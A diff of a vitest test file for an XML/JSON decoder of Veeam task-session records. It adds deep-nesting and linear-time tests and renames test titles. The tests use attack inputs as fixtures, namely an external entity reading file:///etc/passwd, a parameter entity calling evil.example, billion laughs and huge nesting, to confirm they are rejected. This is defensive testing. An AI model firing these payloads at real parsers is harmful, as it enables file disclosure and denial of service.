@@ -1,5 +1,14 @@
 import { afterEach, describe, expect, it } from "vitest";
-import { decode, decodeBody, decodeStream, encode, normalize, WireError } from "../src/index.js";
+import {
+  decode,
+  decodeBody,
+  decodeStream,
+  encode,
+  normalize,
+  normalizeBody,
+  normalizeItems,
+  WireError,
+} from "../src/index.js";
 
 const NS = 'xmlns="http://www.veeam.com/ent/v1.0"';
 const task = (extra = "", reason = "") =>
@@ -38,6 +47,23 @@ function bytes(text: string, width: 1 | 2, bigEndian = false): Uint8Array {
   return new Uint8Array(view.buffer);
 }
 
+/** Elements in elements, up to the depth that is read. */
+function nest(depth: number, open: (at: number) => string): string {
+  const tags = Array.from({ length: depth }, (_, at) => open(at));
+  const ends = tags.map((tag) => `</${/^<([^ >]+)/.exec(tag)?.[1]}>`);
+  return tags.join("") + ends.reverse().join("");
+}
+
+/** Processor time in ms, the least of several runs. */
+function time(run: () => unknown): number {
+  const times = Array.from({ length: 3 }, () => {
+    const started = process.cpuUsage();
+    run();
+    return process.cpuUsage(started).user / 1000;
+  });
+  return Math.min(...times);
+}
+
 afterEach(() => {
   expect(Object.keys(Object.prototype)).toEqual([]);
   expect(({} as Record<string, unknown>).polluted).toBeUndefined();
@@ -52,7 +78,7 @@ describe("document types and entities", () => {
     ["an external entity", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'],
     ["a parameter entity", '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example/">%b;]>'],
     ["a billion laughs", billion],
-  ])("refuses %s before anything is read of it", async (_, type) => {
+  ])("rejects %s before anything is read of it", async (_, type) => {
     expect(outcome(type + task())).toBe("a document type is not accepted");
     expect(await streamed(type + list(task()))).toBe("a document type is not accepted");
   });
@@ -144,13 +170,13 @@ describe("encodings", () => {
       "expected UTF-8 or UTF-16",
     ],
     ["UTF-32", Uint8Array.of(0, 0, 0xfe, 0xff, 0, 0, 0, 0x3c), "a character that XML does not allow"],
-  ])("refuses %s", async (_, body, problem) => {
+  ])("rejects %s", async (_, body, problem) => {
     expect(outcome(body)).toBe(problem);
     expect(await streamed(body)).toEqual(expect.any(String));
   });
 
   it.each(["\u0000", "\u0001", "\u0008", "\u000B", "\u001F", "\uFFFE", "\uD800", "\uDC00"])(
-    "refuses the character %j anywhere",
+    "rejects the character %j anywhere",
     (character) => {
       for (const text of [
         task("", `<Reason>${character}</Reason>`),
@@ -165,7 +191,7 @@ describe("encodings", () => {
 });
 
 describe("sizes", () => {
-  it("refuses 10,000 levels, and JSON of as many is passed over", async () => {
+  it("rejects 10,000 levels, and JSON of as many is passed over", async () => {
     expect(outcome(task("", `${"<a>".repeat(10_000)}${"</a>".repeat(10_000)}`))).toMatch(/nested deeper/);
     expect(await streamed(list(`${"<a>".repeat(10_000)}${"</a>".repeat(10_000)}`))).toMatch(/nested deeper/);
     const json = `${'{"a":'.repeat(10_000)}1${"}".repeat(10_000)}`;
@@ -174,7 +200,68 @@ describe("sizes", () => {
     );
   });
 
-  it("refuses 1,000,000 attributes", async () => {
+  it("rejects JSON of 5,000 levels in place of a body, an item or a value", async () => {
+    for (const json of ["[".repeat(5000) + "]".repeat(5000), `${'{"a":'.repeat(5000)}1${"}".repeat(5000)}`]) {
+      expect(() => normalizeBody(json)).toThrow(WireError);
+      expect(() => normalize("ReplicaTaskSession", json)).toThrow(WireError);
+      expect(() => normalize("ReplicaTaskSessionList", `{"ReplicaTaskSessions":[${json}]}`)).toThrow(WireError);
+      for (const name of ["State", "TotalSize", "Links", "CreationTimeUTC"]) {
+        const deep = { ...value, [name]: JSON.parse(json) };
+        expect(() => normalize("ReplicaTaskSession", deep)).toThrow(WireError);
+        for (const format of ["xml", "json"] as const) {
+          expect(() => encode("ReplicaTaskSession", deep as never, { format })).toThrow(WireError);
+        }
+      }
+      expect(await streamed(json)).toEqual(expect.any(String));
+    }
+  });
+
+  const SIZE = 1000;
+  it.each<[string, (size: number) => string]>([
+    ["namespaces declared in namespaces", (size) => nest(size / 2, (at) => `<p${at}:a xmlns:p${at}="u${at}">`)],
+    ["prefixes without declaration", (size) => `<x xmlns:p="u">${nest(size / 2, () => "<p:a>")}</x>`],
+    ["one default namespace in another", (size) => nest(size / 2, (at) => `<a xmlns="u${at}">`)],
+    ["prefixed siblings", (size) => `<x xmlns:p="u">${"<p:a/>".repeat(size * 20)}</x>`],
+    ["prefixes declared by siblings", (size) => "<p:a xmlns:p='u'/>".repeat(size * 20)],
+    ["attributes with prefixes", (size) => `<p:a xmlns:p="u" p:b="1" p:c="2"/>`.repeat(size * 5)],
+    [
+      "prefixed elements below many prefixes",
+      (size) => {
+        const prefixes = (at: number) => Array.from({ length: 100 }, (_, n) => ` xmlns:p${at}_${n}="u"`).join("");
+        const around = nest(size / 50, (at) => `<a${prefixes(at)}>`);
+        return around.replace("</", `${"<p1_1:a/>".repeat(size * 5)}</`);
+      },
+    ],
+    ["plain nesting", (size) => nest(size / 2, () => "<a>")],
+    ["attributes", (size) => `<a ${"x".repeat(size * 50)}="${"y".repeat(size * 50)}"/>`],
+    ["text", (size) => `<Reason>${"x".repeat(size * 100)}</Reason>`],
+    ["text in pieces", (size) => `<Reason>${"x<!---->".repeat(size * 20)}</Reason>`],
+    ["entities", (size) => `<Reason>${"&amp;&#65;".repeat(size * 20)}</Reason>`],
+    ["CDATA", (size) => `<Reason>${"<![CDATA[x]]>".repeat(size * 20)}</Reason>`],
+    ["lines", (size) => `<Reason>${"\r\n".repeat(size * 100)}</Reason>`],
+  ])("takes time in proportion to the size: %s", (_, content) => {
+    expect(outcome(task("", content(16)))).toBeTypeOf("object");
+    // Four times the size takes four times as long if linear, sixteen times if quadratic. A few ms more are noise.
+    const small = time(() => outcome(task("", content(SIZE / 2))));
+    const large = time(() => outcome(task("", content(SIZE * 2 - 100))));
+    expect(large).toBeLessThan(small * 10 + 20);
+  });
+
+  it("splits JSON whose items begin differently in linear time", () => {
+    const body = (size: number) =>
+      JSON.stringify({ ReplicaTaskSessions: Array.from({ length: size }, (_, at) => ({ [`x${at}`]: 0, ...value })) });
+    const read = (text: string) => () => {
+      const items: unknown[] = [];
+      const reader = normalizeItems("ReplicaTaskSessionList", (item) => items.push(item));
+      reader.write(new TextEncoder().encode(text));
+      reader.end();
+      expect(items.length).toBeGreaterThan(0);
+    };
+    const [small, large] = [body(2000), body(8000)];
+    expect(time(read(large))).toBeLessThan(time(read(small)) * 10 + 20);
+  });
+
+  it("rejects 1,000,000 attributes", async () => {
     const attributes = Array.from({ length: 1_000_000 }, (_, at) => `a${at}=""`).join(" ");
     expect(outcome(task(attributes))).toBe("more attributes than any tag may have");
     expect(await streamed(list(`<a ${attributes}/>`))).toBe("more attributes than any tag may have");
@@ -204,11 +291,11 @@ describe("structure", () => {
     ["text after the root", `${task()}x`, "text after the end"],
     ["an unclosed root", task().replace(/<\/ReplicaTaskSession>$/, ""), "the text ends before </ReplicaTaskSession>"],
     ["tags that cross", task("", "<a><b></a></b>"), "expected </b>"],
-  ])("refuses %s", (_, text, problem) => {
+  ])("rejects %s", (_, text, problem) => {
     expect(outcome(text)).toBe(problem);
   });
 
-  it("refuses a body cut off at any byte, and never takes a part for the whole", async () => {
+  it("rejects a body cut off at any byte, and never takes a part for the whole", async () => {
     const body = new TextEncoder().encode(encode("ReplicaTaskSession", { ...value, Name: "Zürich 東京" }));
     for (let length = 0; length < body.length; length++)
       expect(outcome(body.subarray(0, length))).toEqual(expect.any(String));
